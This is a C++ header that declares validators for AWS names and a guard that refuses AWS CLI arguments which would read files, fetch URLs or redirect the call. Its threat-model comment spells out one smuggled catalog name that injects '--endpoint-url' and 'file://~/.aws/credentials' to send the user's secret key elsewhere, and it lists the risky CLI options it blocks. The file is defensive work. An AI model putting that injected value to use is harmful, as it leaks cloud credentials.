// AWS names and the AWS CLI's arguments, checked at every door (doc/server.md, "Threat model").
//
// An instance-type name, a region code or a family from a catalog file, an imported AWS answer or
// a request ends up, sooner or later, as an argument of the AWS CLI (`catalog update --aws`,
// `account scan`, `watch`) or in a launch template. The AWS CLI treats some values specially: a
// value "file://PATH" or "fileb://PATH" is replaced by that file's content (and v1 fetches
// "http(s)://" values), and an argument beginning with "--" is an option, so one catalog name
// such as "p9.48xlarge --endpoint-url http://host --instance-type file://~/.aws/credentials"
// would send the user's secret key, signed, to another host. So:
//  - every name is checked against AWS's own grammar where it enters (catalog JSON, import,
//    update, scan, every front end's options), and refused with what was expected;
//  - every process is started with an argument vector, never a split string, and the AWS CLI
//    runner refuses, before it starts anything, an argument it would expand or read as an option
//    that redirects the call (AwsArgumentProblem), whoever built it.
#ifndef GPUADVISOR_UTIL_AWS_NAMES_H_
#define GPUADVISOR_UTIL_AWS_NAMES_H_

#include <string>
#include <string_view>
#include <vector>

namespace gpuadvisor {

// "p5.48xlarge", "p6-b200.48xlarge", "u7i-6tb.112xlarge", "m7i.metal-48xl": a family and a
// size, each of lower-case ASCII letters, digits and '-' (beginning with a letter or digit, not
// ending with '-'), joined by one '.'; at most 64 bytes in all.
bool IsInstanceTypeName(std::string_view name);
// "p5", "g6e", "p6-b200", "u7i-6tb": the part of an instance type before its '.'.
bool IsInstanceFamilyName(std::string_view family);
// An EC2 UltraServer type, the unit a Capacity Block for an UltraServer sells:
// "u-p6e-gb200x72" ("u-", a name as above, 'x' and a count; no '.').
bool IsUltraServerTypeName(std::string_view name);
// Regions of every partition: "us-east-1", "us-gov-west-1", "cn-north-1" (geo "-" [gov "-"]
// area "-" number); not Local/Wavelength Zones ("us-east-1-atl-1").
bool IsRegionCode(std::string_view region);
// An availability-zone id: "use1-az1", "cnn1-az2", "use1-atl1-az1" (a name as above, "-az",
// digits).
bool IsAzId(std::string_view id);
// An EC2 instance id: "i-" and 8 or 17 lower-case hex digits ("i-0123456789abcdef0").
bool IsInstanceId(std::string_view id);
// A pagination token from an AWS answer, to be handed back as one argument: 1 to 8192 bytes of
// letters, digits and "+/=_.~-", not beginning with '-' (so never an option, a parameter file
// or a URL).
bool IsPageToken(std::string_view token);

// "" when each name passes `is`, else what was expected and the first name that is not, made
// safe to print: `what` names the kind ("an EC2 instance type such as p5.48xlarge").
// Each of these returns that text for one name ("" when it passes).
std::string InstanceTypeNameProblem(std::string_view name);
std::string UltraServerTypeNameProblem(std::string_view name);
std::string FamilyNameProblem(std::string_view family);
std::string RegionCodeProblem(std::string_view region);
std::string AzIdProblem(std::string_view id);

// "" when `arg` may be handed to the AWS CLI as one argument of a call (after the runner's own
// global options), else why not:
//  - a control character or a byte that is not printable ASCII or UTF-8;
//  - a URL-like prefix "scheme://" (file://, fileb://, http://, https://: the AWS CLI would read
//    or fetch it instead of passing the value);
//  - an option that changes where or how the call goes, or makes the CLI read a file
//    (--endpoint-url, --profile, --region, --output, --ca-bundle, --no-verify-ssl,
//    --no-sign-request, --debug, --cli-*): the runner sets those itself, once;
//  - any other argument beginning with '-' that is not an option name ("--" lower-case letters,
//    digits and '-').
std::string AwsArgumentProblem(std::string_view arg);
// The first problem among `args` as "argument N: ...", or "".
std::string AwsArgumentsProblem(const std::vector<std::string>& args);

}  // namespace gpuadvisor

#endif  // GPUADVISOR_UTIL_AWS_NAMES_H_
